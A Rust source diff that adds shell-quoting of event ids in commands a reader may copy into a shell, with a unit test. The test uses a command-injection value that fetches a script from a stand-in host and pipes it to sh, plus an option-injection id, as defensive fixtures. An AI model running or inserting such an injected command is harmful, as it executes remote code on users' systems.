@@ -1,10 +1,11 @@
 //! One memory in one line: its day, what happened and what to do, and where it is from.
 //! Not here: how many lines a reply has (`hits`, `briefing`, `item`).
 
+use std::borrow::Cow;
 use std::fmt::Write;
 
 use super::excerpt::{Excerpt, Interest, LOOK_BYTES_MAX};
-use crate::event::{Layout, RepoKey, neutralise};
+use crate::event::{EventId, Layout, RepoKey, neutralise};
 use crate::retriever::projection::Memory;
 use crate::retriever::staleness::Changed;
 
@@ -24,6 +25,22 @@ const NAME_CHARS_MAX: usize = 40;
 /// Returns a name that somebody else chose, as it may stand within a line.
 pub(super) fn name(text: &str) -> String {
     neutralise(text, Layout::Line).chars().take(NAME_CHARS_MAX).collect()
+}
+
+/// Returns ids as they may stand among the words of a command that a reader may copy into a shell, after its options.
+/// Anybody may choose an id, but none holds a quote (S-LINE-4).
+pub(in crate::retriever) fn operands(ids: &[&EventId]) -> String {
+    let words: Vec<Cow<'_, str>> = ids.iter().map(|id| word(id)).collect();
+    let is_option = ids.iter().any(|id| id.short().starts_with('-'));
+    format!("{}{}", if is_option { "-- " } else { "" }, words.join(" "))
+}
+
+/// Returns an id as one word of a shell.
+pub(super) fn word(id: &EventId) -> Cow<'_, str> {
+    let id = id.short();
+    let is_plain = id.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._:-".contains(&byte));
+    if is_plain { id.into() } else { format!("'{id}'").into() }
 }
 
 /// So many files are named: one is enough to know what to look at.
@@ -154,6 +171,19 @@ mod tests {
     use super::super::sample;
     use super::*;
     use serde_json::json;
+
+    // S-REPLY-3
+    #[test]
+    fn an_id_in_a_command_is_one_word_whatever_it_holds() {
+        let id = |text: &str| EventId::foreign(text).unwrap();
+        let (plain, odd, option) = (id("fix-1.a:b_c"), id("m1;curl${IFS}evil.sh|sh"), id("--undo"));
+        assert_eq!(operands(&[&plain]), "fix-1.a:b_c");
+        assert_eq!(operands(&[&plain, &odd]), "fix-1.a:b_c 'm1;curl${IFS}evil.sh|sh'");
+        assert_eq!(operands(&[&option, &odd]), "-- '--undo' 'm1;curl${IFS}evil.sh|sh'");
+        assert_eq!(word(&id("~root")), "'~root'");
+        let own = EventId::mint("2026-01-02T03:04:05Z".parse().unwrap(), 7);
+        assert_eq!(operands(&[&own]), own.short());
+    }
 
     #[test]
     fn a_body_weighs_each_piece_once_and_keeps_to_every_room() {
